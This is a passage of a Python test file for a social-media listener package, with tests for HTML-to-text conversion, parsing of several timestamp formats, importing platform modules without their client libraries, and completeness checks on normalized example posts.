def test_html_to_text(html: str, text: str) -> None:
    assert html_to_text(html) == text


def test_parse_any_time_reads_epoch_iso_and_rfc822() -> None:
    expected = at("2026-11-18T09:30:25")
    assert parse_any_time(1795080625) == datetime.fromtimestamp(1795080625, UTC)
    assert parse_any_time("2026-11-18T09:30:25.000Z") == expected
    assert parse_any_time("Wed, 18 Nov 2026 09:30:25 +0000") == expected
    assert parse_any_time("Wed, 18 Nov 2026 09:30:25") == expected  # no zone: UTC
    assert parse_any_time([2026, 11, 31, 0, 0, 0]) is None  # no 31 November


def test_platform_modules_import_without_client_libraries() -> None:
    code = (
        "import sys, listener.x, listener.reddit, listener.mastodon, listener.bluesky, "
        "listener.hackernews, listener.rss, listener.replay; "
        "print(sorted(m for m in ('tweepy', 'praw', 'aiohttp') if m in sys.modules))"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "[]"


@pytest.mark.parametrize("example", list(EXAMPLES))
def test_a_complete_example_fills_identity_time_and_author(example: str) -> None:
    # the starting point of the wrong-type test above must itself be whole
    normalize, payload = EXAMPLES[example]
    m = normalize(payload())
    assert m.native_id and m.text and m.url and m.created_at is not None
    assert m.author.name or m.author.handle
